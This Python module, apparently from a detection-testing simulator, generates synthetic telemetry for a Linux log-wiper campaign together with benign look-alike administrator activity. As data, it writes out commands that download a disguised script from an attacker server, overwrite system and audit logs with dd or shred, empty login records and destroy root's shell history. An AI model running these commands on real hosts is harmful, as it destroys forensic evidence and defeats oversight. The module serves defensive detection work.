"""Log and history wiping (T1485, T1070.002, T1070.003): an operator with root runs a
wiper script, in the style of AcidRain and AwfulShred, that overwrites log files in place
with zeros or random bytes, empties the login records and destroys the shell history of
root and of the administrators.

Per instance: the host and the administrator account used to get in; how the script
arrives (curl or wget from the operator's server, or an scp upload) and how it is started
(bash, sh, executed directly); its hidden name and directory (imitations of files the
system keeps in /tmp, /var/tmp, /dev/shm or a cache directory); the overwriting tool (dd
from /dev/zero or /dev/urandom with varying block size, count and options, shred with
varying passes, or both), which logs it hits (system, security and login logs, the
journal, the role's own application logs); how the login records are emptied (truncate,
a `cat /dev/null >` redirection, a copy of /dev/null); how history goes (rm plus a link
to /dev/null, shred -u, truncate, or a find that empties every history file through sh);
which accounts' histories; timing.

Look-alikes: swap files made with dd; disk benchmarks with dd; administrators shredding
key and credential files; random key files made with dd; operators emptying and rotating
application logs; administrators clearing their own history; Ansible linking service
accounts' history to /dev/null; administrators reviewing and copying root's history,
and people searching their own.
"""

from __future__ import annotations

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.environment import LinuxHost
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    BASH,
    SH,
    LookalikeFamily,
    ansible,
    register_lookalikes,
    root_session,
    user_session,
)

CAMPAIGN = "log_wiper"

_SCRIPT_DIRS = ("/var/tmp", "/tmp", "/dev/shm", "/root/.cache", "/var/cache/man")
_SCRIPT_NAMES = (
    ".ICE-sync",
    ".X11-lock",
    ".font-cache",
    ".fstrim-state",
    ".journal-gc",
    ".apt-clean",
    ".sysstat-tmp",
    ".dbus-session",
    ".snapd-refresh",
    ".logrotate-state",
    ".motd-cache",
    ".pulse-tmp",
)
_SCRIPT_SUFFIXES = ("", ".sh", ".tmp", "-1")
#: Logs a wiper goes after on every Ubuntu server, and those of each role's service.
_SYSTEM_LOGS = (
    "/var/log/auth.log",
    "/var/log/syslog",
    "/var/log/kern.log",
    "/var/log/audit/audit.log",
    "/var/log/cloud-init.log",
    "/var/log/waagent.log",
    "/var/log/dpkg.log",
    "/var/log/apt/history.log",
    "/var/log/ufw.log",
)
_LOGIN_RECORDS = ("/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog", "/var/log/faillog")
_ROLE_LOGS = {
    "web": ("/var/log/nginx/access.log", "/var/log/nginx/error.log"),
    "app": ("/var/log/app/app.log", "/var/log/app/cleanup.log"),
    "db": ("/var/log/postgresql/postgresql-14-main.log",),
    "jump": ("/var/log/sssd/sssd.log",),
    "build": ("/var/log/docker.log",),
}
_DD_BLOCKS = (
    ("1M", (8, 16, 32, 64, 100, 128, 256)),
    ("4k", (1024, 2048, 4096, 16384)),
    ("512", (2048, 8192, 20480)),
    ("64K", (100, 500, 1000)),
)
_DD_OPTIONS = ("", " conv=notrunc", " status=none", " conv=notrunc status=none", " oflag=sync")
_SHRED_FLAGS = ("-n 1 -z", "-fz", "-vzn 3", "-n 3 -z", "--iterations=2 --zero", "-fzn 7")
_HISTORY_SHRED = ("-u -z", "-fuz", "-n 3 -u", "-uvz", "--remove --zero")


def _script(instance: Instance) -> str:
    """Where the script goes; an upload as the administrator can only go somewhere
    world-writable."""
    how = instance.pick("delivery", ("curl-o", "wget-O", "scp-upload"))
    writable = ("/var/tmp", "/tmp", "/dev/shm")
    directory = instance.pick("script_dir", writable if how == "scp-upload" else _SCRIPT_DIRS)
    name = instance.name_like("script_name", _SCRIPT_NAMES, _SCRIPT_SUFFIXES)
    return f"{directory}/{name}"


def _stage_script(t: Timeline, instance: Instance, root: Process, admin: str, path: str) -> None:
    """The script arrives: downloaded from the operator's server, or uploaded over scp."""
    how = instance.values["delivery"]
    if how == "scp-upload":
        sshd = t.run("staging", t.daemon("sshd"), "/usr/sbin/sshd", f"sshd: {admin} [priv]", "root")
        scp = t.run("staging", sshd, "/usr/bin/scp", f"scp -t {path}", admin, after=(1, 4))
        t.file("staging", scp, "FileCreated", path, size=instance.between(900, 4200))
        return
    ip = instance.attacker_ip("server_ip")
    port = instance.port("server_port", (80, 443, 8080, 8000, 8443, 9090))
    resource = instance.hex("resource", 8)
    url = f"http://{ip}:{port}/{resource}" if port != 80 else f"http://{ip}/{resource}"
    if how == "curl-o":
        command, image = f"curl -fsSL {url} -o {path}", "/usr/bin/curl"
    else:
        command, image = f"wget -q {url} -O {path}", "/usr/bin/wget"
    fetch = t.run("staging", root, image, command, after=(10, 60))
    t.file("staging", fetch, "FileCreated", path, size=instance.between(900, 4200))


def _run_script(t: Timeline, instance: Instance, root: Process, path: str) -> Process:
    how = instance.pick("launch", ("bash-file", "sh-file", "chmod-exec", "nohup-bash"))
    directory = path.rsplit("/", 1)[0]
    if how == "sh-file":
        return t.run("access", root, SH, f"sh {path}", after=(3, 40), cwd=directory)
    if how == "chmod-exec":
        t.run("access", root, "/usr/bin/chmod", f"chmod +x {path}", after=(3, 20))
        return t.run("access", root, BASH, f"/bin/bash {path}", after=(1, 5), cwd=directory)
    if how == "nohup-bash":
        nohup = t.run(
            "access", root, "/usr/bin/nohup", f"nohup bash {path}", after=(3, 40), cwd=directory
        )
        return t.run("access", nohup, BASH, f"bash {path}", after=(0.01, 0.1))
    return t.run("access", root, BASH, f"bash {path}", after=(3, 40), cwd=directory)


def _overwrite(t: Timeline, instance: Instance, script: Process, logs: list[str]) -> None:
    """Each log overwritten in place with zeros or random bytes."""
    tool = instance.pick("overwrite", ("dd-only", "shred-only", "dd+shred"))
    unit, counts = instance.pick("dd_block", _DD_BLOCKS)
    count = instance.pick("dd_count", counts)
    options = instance.pick("dd_options", _DD_OPTIONS)
    output_first = instance.chance(0.3)
    flags = instance.pick("shred_flags", _SHRED_FLAGS)
    for index, log in enumerate(logs):
        use_dd = tool == "dd-only" or (tool == "dd+shred" and index % 2 == 0)
        if use_dd:
            source = instance.rng.choice(("/dev/zero", "/dev/urandom"))
            if output_first:
                command = f"dd of={log} if={source} bs={unit} count={count}{options}"
            else:
                command = f"dd if={source} of={log} bs={unit} count={count}{options}"
            t.run("dd_wipe", script, "/usr/bin/dd", command, after=(0.2, 3))
        else:
            t.run("dd_wipe", script, "/usr/bin/shred", f"shred {flags} {log}", after=(0.5, 6))


def _empty_records(t: Timeline, instance: Instance, script: Process, logs: list[str]) -> None:
    """Login records emptied to zero length (not overwritten)."""
    how = instance.pick("emptying", ("truncate-s0", "cat-devnull", "cp-devnull"))
    for log in logs:
        if how == "truncate-s0":
            t.run("log_truncate", script, "/usr/bin/truncate", f"truncate -s 0 {log}")
        elif how == "cat-devnull":
            t.run("log_truncate", script, SH, f"sh -c cat /dev/null > {log}")
        else:
            t.run("log_truncate", script, "/usr/bin/cp", f"cp /dev/null {log}")


def _histories(instance: Instance, host: LinuxHost, admin: str) -> list[str]:
    others = [u for u in host.admin_users if u != admin]
    extra = {
        "db": ["/var/lib/postgresql/.psql_history", "/root/.psql_history"],
        "app": ["/root/.python_history"],
        "build": ["/home/runner/.bash_history"],
        "web": ["/var/www/.bash_history"],
        "jump": ["/root/.python_history"],
    }[host.role]
    optional = [f"/home/{u}/.bash_history" for u in others] + extra
    chosen = instance.sample("history_extra", optional, instance.between(0, min(2, len(optional))))
    return ["/root/.bash_history", f"/home/{admin}/.bash_history", *chosen]


def _wipe_history(t: Timeline, instance: Instance, script: Process, files: list[str]) -> None:
    how = instance.pick(
        "history_method", ("rm+ln", "shred-u", "truncate-s0", "find-exec-sh", "rm-only")
    )
    stage = "history_wipe"
    if how == "find-exec-sh":
        homes = {f.rsplit("/", 1)[0] for f in files}
        roots = " ".join(["/root", "/home", *sorted(h for h in homes if h.startswith("/var/"))])
        finder = t.run(
            stage,
            script,
            "/usr/bin/find",
            f'find {roots} -maxdepth 2 -name .*_history -exec sh -c cat /dev/null > "$1" _ {{}} ;',
        )
        for path in files:
            t.run(stage, finder, SH, f'sh -c cat /dev/null > "$1" _ {path}', after=(0.01, 0.2))
        return
    flags = instance.pick("history_flags", _HISTORY_SHRED)
    rm = instance.pick("rm_flags", ("-f", "-rf", "-f --"))
    for path in files:
        if how == "rm+ln":
            t.run(stage, script, "/usr/bin/rm", f"rm {rm} {path}")
            t.run(stage, script, "/usr/bin/ln", f"ln -sf /dev/null {path}")
        elif how == "shred-u":
            t.run(stage, script, "/usr/bin/shred", f"shred {flags} {path}")
        elif how == "truncate-s0":
            t.run(stage, script, "/usr/bin/truncate", f"truncate -s 0 {path}")
        else:
            t.run(stage, script, "/usr/bin/rm", f"rm {rm} {path}")
    if how == "rm-only":
        # Root's future sessions write nowhere.
        t.run(stage, script, "/usr/bin/ln", "ln -sf /dev/null /root/.bash_history")


@scenario(
    CAMPAIGN,
    "linux",
    ("access", "staging", "dd_wipe", "log_truncate", "history_wipe"),
)
def log_wiper(ctx: SimContext) -> Stages:
    """Stage the wiper, overwrite logs, empty login records, destroy history."""
    instance = Instance(ctx, CAMPAIGN)
    host = instance.linux_host("host")
    admin = instance.pick("account", host.admin_users)
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "wiper", (0, 20)))
    root = root_session(t, admin)
    path = _script(instance)
    _stage_script(t, instance, root, admin, path)
    script = _run_script(t, instance, root, path)
    # Login records the script empties; everything else it may overwrite.
    emptied = instance.sample("emptied", _LOGIN_RECORDS, instance.between(1, 3))
    pool = [*_SYSTEM_LOGS, *_LOGIN_RECORDS, *_ROLE_LOGS[host.role]]
    journal = f"/var/log/journal/{instance.hex('machine_id', 32)}/system.journal"
    candidates = [log for log in [*pool, journal] if log not in emptied]
    targets = instance.sample("overwritten", candidates, instance.between(2, 5))
    _overwrite(t, instance, script, targets)
    _empty_records(t, instance, script, emptied)
    _wipe_history(t, instance, script, _histories(instance, host, admin))
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------

_SWAP_FILES = ("/swapfile", "/mnt/swapfile", "/var/swap.img", "/mnt/resource/swapfile")
_BENCH_TARGETS = {
    "db": ("/var/lib/postgresql/ddtest", "/var/lib/postgresql/14/main/.iotest"),
    "app": ("/opt/app/tmp/ddtest.img", "/tmp/ddtest"),
    "web": ("/tmp/ddtest", "/var/www/ddtest.bin"),
    "jump": ("/tmp/test.img", "/home/azureuser/ddtest"),
    "build": ("/home/runner/work/ddtest", "/var/lib/docker/ddtest.img", "/mnt/ddtest"),
}
_SECRETS = (
    "/root/sp-credentials.json",
    "/tmp/client-cert.pem",
    "/root/old_id_rsa",
    "/home/{user}/Downloads/contoso-vpn.ovpn",
    "/home/{user}/.pgpass.bak",
    "/root/kv-export.json",
    "/tmp/tls-wildcard.key",
    "/home/{user}/id_ed25519.old",
)
_KEY_FILES = (
    ("/etc/nginx/ssl/ticket.key", "bs=80 count=1"),
    ("/root/.keys/backup-encryption.key", "bs=512 count=4"),
    ("/etc/ssl/private/session_ticket.key", "bs=48 count=1"),
    ("/var/lib/postgresql/.pgcrypto.key", "bs=32 count=1"),
    ("/etc/luks/data-disk.key", "bs=512 count=8"),
)
_APP_LOGS = {
    "web": ("/var/log/nginx/access.log", "/var/log/nginx/error.log"),
    "app": ("/var/log/app/debug.log", "/var/log/app/app.log", "/var/log/app/cleanup.log"),
    "db": ("/var/log/postgresql/postgresql-14-main.log",),
    "jump": ("/var/log/sssd/sssd_nss.log",),
    "build": ("/home/runner/actions-runner/_diag/Runner.log", "/var/log/docker.log"),
}
#: Service accounts' history files by role (Ansible's hardening links them to /dev/null).
_SERVICE_HISTORIES = {
    "db": ("/var/lib/postgresql/.psql_history", "/var/lib/postgresql/.bash_history"),
    "build": ("/home/runner/.bash_history", "/home/runner/.python_history"),
    "web": ("/var/www/.bash_history", "/var/www/.node_repl_history"),
    "app": (
        "/home/app/.bash_history",
        "/home/svc-metrics/.bash_history",
        "/home/app/.python_history",
    ),
}


def _swap_file(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators add swap with dd (fallocate is not safe on every filesystem)."""
    for t, root in family.root_sessions(family.moments(1, 1)):
        path = t.rng.choice(_SWAP_FILES)
        size = t.rng.choice((1024, 2048, 4096, 8192))
        unit = t.rng.choice(("bs=1M count={}", "bs=1024 count={}k"))
        dd = t.run(
            "swap_file", root, "/usr/bin/dd", f"dd if=/dev/zero of={path} {unit.format(size)}"
        )
        t.file("swap_file", dd, "FileCreated", path, after=(5, 40), size=size * 1024 * 1024)
        t.run("swap_file", root, "/usr/bin/chmod", f"chmod 600 {path}", after=(20, 60))
        t.run("swap_file", root, "/usr/sbin/mkswap", f"mkswap {path}")
        t.run("swap_file", root, "/usr/sbin/swapon", f"swapon {path}")
        if t.rng.random() < 0.5:
            tee = t.run("swap_file", root, "/usr/bin/tee", "tee -a /etc/fstab")
            t.file("swap_file", tee, "FileModified", "/etc/fstab")


def _disk_benchmark(ctx: SimContext, family: LookalikeFamily) -> None:
    """Quick write and read throughput tests with dd before and after disk changes."""
    for t, root in family.root_sessions(family.moments(1, 1)):
        host = root.host
        target = t.rng.choice(_BENCH_TARGETS[host.role])
        for _ in range(t.rng.randint(1, 3)):
            source = t.rng.choice(("/dev/zero", "/dev/zero", "/dev/urandom"))
            size = t.rng.choice(("bs=1G count=1", "bs=1M count=1024", "bs=8k count=100000"))
            flag = t.rng.choice(("oflag=dsync", "oflag=direct", "conv=fdatasync"))
            t.run(
                "disk_benchmark",
                root,
                "/usr/bin/dd",
                f"dd if={source} of={target} {size} {flag}",
                after=(10, 90),
            )
        t.run(
            "disk_benchmark",
            root,
            "/usr/bin/dd",
            f"dd if={target} of=/dev/null bs=1M",
            after=(5, 30),
        )
        t.run("disk_benchmark", root, "/usr/bin/rm", f"rm -f {target}", after=(5, 30))


def _secret_shredding(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators destroy key and credential files they no longer need."""
    for host, moment in family.moments(1, 2):
        t = family.on(host, moment)
        user = t.rng.choice(host.admin_users)
        as_root = t.rng.random() < 0.5
        shell = (
            root_session(t, user, stage="secret_shredding")
            if as_root
            else user_session(t, user, "secret_shredding")
        )
        for path in t.rng.sample(_SECRETS, t.rng.randint(1, 2)):
            path = path.format(user=user)
            if not as_root and not path.startswith(f"/home/{user}/"):
                path = f"/home/{user}/{path.rsplit('/', 1)[1]}"
            flags = t.rng.choice(("-u", "-vzu", "-u -n 5", "-fuz", "--remove -n 3"))
            t.run("secret_shredding", shell, "/usr/bin/shred", f"shred {flags} {path}")


def _random_key_files(ctx: SimContext, family: LookalikeFamily) -> None:
    """Configuration management makes random keys with dd (TLS session tickets, backup
    and disk encryption keys)."""
    for t, root in family.root_sessions(family.moments(1, 2), user="azureuser"):
        path, size = t.rng.choice(_KEY_FILES)
        runner = ansible(t, root, "random_key_files", "command")
        dd = t.run(
            "random_key_files",
            runner,
            "/usr/bin/dd",
            f"dd if=/dev/urandom of={path} {size}",
        )
        t.file("random_key_files", dd, "FileCreated", path)
        t.run("random_key_files", runner, "/usr/bin/chmod", f"chmod 600 {path}")


def _app_log_truncation(ctx: SimContext, family: LookalikeFamily) -> None:
    """Operators empty runaway application logs and force a rotation."""
    for t, root in family.root_sessions(family.moments(1, 2)):
        host = root.host
        for log in t.rng.sample(_APP_LOGS[host.role], 1):
            how = t.rng.random()
            if how < 0.5:
                t.run("app_log_truncation", root, "/usr/bin/truncate", f"truncate -s 0 {log}")
            elif how < 0.8:
                t.run("app_log_truncation", root, SH, f"sh -c cat /dev/null > {log}")
            else:
                t.run("app_log_truncation", root, "/usr/bin/cp", f"cp /dev/null {log}")
        t.run(
            "app_log_truncation",
            root,
            "/usr/bin/journalctl",
            f"journalctl --vacuum-size={t.rng.choice((100, 200, 500))}M",
        )
        t.run(
            "app_log_truncation",
            root,
            "/usr/sbin/logrotate",
            f"logrotate -f /etc/logrotate.d/{t.rng.choice(('rsyslog', 'nginx', 'app', 'postgresql-common'))}",
        )


def _own_history_cleanup(ctx: SimContext, family: LookalikeFamily) -> None:
    """People clear their own history after typing a secret on the command line."""
    for t, login in family.user_sessions(family.moments(1, 2)):
        user = login.account
        history = t.rng.choice(
            (".bash_history", ".bash_history", ".psql_history", ".python_history")
        )
        path = f"/home/{user}/{history}"
        how = t.rng.random()
        if how < 0.4:
            t.run("own_history_cleanup", login, "/usr/bin/rm", f"rm -f {path}", after=(30, 300))
        elif how < 0.7:
            t.run(
                "own_history_cleanup",
                login,
                "/usr/bin/truncate",
                f"truncate -s 0 {path}",
                after=(30, 300),
            )
        else:
            t.run(
                "own_history_cleanup", login, "/usr/bin/shred", f"shred -u {path}", after=(30, 300)
            )
        t.run("own_history_cleanup", login, "/usr/bin/ls", f"ls -la /home/{user}")


def _service_account_history(ctx: SimContext, family: LookalikeFamily) -> None:
    """Ansible's hardening role links service accounts' history files to /dev/null."""
    for t, root in family.root_sessions(
        family.moments(1, 1, roles=tuple(_SERVICE_HISTORIES)), user="azureuser"
    ):
        for path in _SERVICE_HISTORIES[root.host.role]:
            runner = ansible(t, root, "service_account_history", "command")
            t.run("service_account_history", runner, "/usr/bin/ln", f"ln -sfn /dev/null {path}")


def _history_review(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators review root's own history (and keep a copy) after a change, and
    people search their own history as themselves."""
    for host, moment in family.moments(1, 2):
        t = family.on(host, moment)
        admin = t.rng.choice(host.admin_users)
        if t.rng.random() < 0.6:
            shell = root_session(t, admin, stage="history_review")
            home = "/root"
        else:
            shell = user_session(t, admin, "history_review")
            home = f"/home/{admin}"
        commands = [
            ("/usr/bin/cat", f"cat {home}/.bash_history"),
            ("/usr/bin/tail", f"tail -n 100 {home}/.bash_history"),
            ("/usr/bin/grep", f"grep -n systemctl {home}/.bash_history"),
            ("/usr/bin/cp", f"cp {home}/.bash_history {home}/bash_history-{moment:%Y%m%d}.txt"),
            ("/usr/bin/find", f"find {home} -maxdepth 1 -name .*_history -mtime -1"),
            ("/usr/bin/wc", f"wc -l {home}/.bash_history"),
            ("/usr/bin/less", f"less {home}/.bash_history"),
        ]
        for image, command in t.rng.sample(commands, t.rng.randint(2, 4)):
            t.run("history_review", shell, image, command, after=(5, 60))


_FAMILIES = {
    "swap_file": _swap_file,
    "disk_benchmark": _disk_benchmark,
    "secret_shredding": _secret_shredding,
    "random_key_files": _random_key_files,
    "app_log_truncation": _app_log_truncation,
    "own_history_cleanup": _own_history_cleanup,
    "service_account_history": _service_account_history,
    "history_review": _history_review,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
